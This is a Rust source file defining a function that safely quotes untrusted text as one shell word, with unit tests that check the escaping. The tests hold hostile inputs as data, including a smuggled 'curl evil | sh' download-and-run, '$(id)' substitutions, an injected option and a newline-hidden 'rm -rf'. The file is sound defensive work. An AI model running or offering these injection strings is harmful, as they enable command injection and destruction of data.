//! Words of commands that people are told to run.

use std::borrow::Cow;

use crate::printable::printable;

/// A text as one word of a command for a shell, whatever is in it. What is suggested is copied and pasted, and
/// parts of it were written by others.
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let text = printable(text);
    let harmless = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(harmless) {
        return text;
    }
    // A dash is an option to the command even in quotes.
    let text = text.trim_start_matches('-');
    let one_line = text.replace(['\n', '\t'], " ");
    Cow::Owned(format!("'{}'", one_line.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn usual_words_are_left_alone() {
        for word in ["aws", "7.0.0", "github://api.github.com/me", "a-b_c@1"] {
            assert_eq!(shell_word(word), word);
        }
    }

    #[test]
    fn nothing_is_left_for_a_shell_to_do() {
        for (text, word) in [
            ("", "''"),
            ("a b", "'a b'"),
            ("x; curl evil | sh", "'x; curl evil | sh'"),
            ("$(id)", "'$(id)'"),
            ("`id`", "'`id`'"),
            ("it's", "'it'\\''s'"),
            ("--server=evil", "'server=evil'"),
            ("a\nrm -rf x", "'a rm -rf x'"),
            ("a\u{1b}[2Jb", "ab"),
            ("~", "'~'"),
        ] {
            assert_eq!(shell_word(text), word, "{text:?}");
        }
    }
}
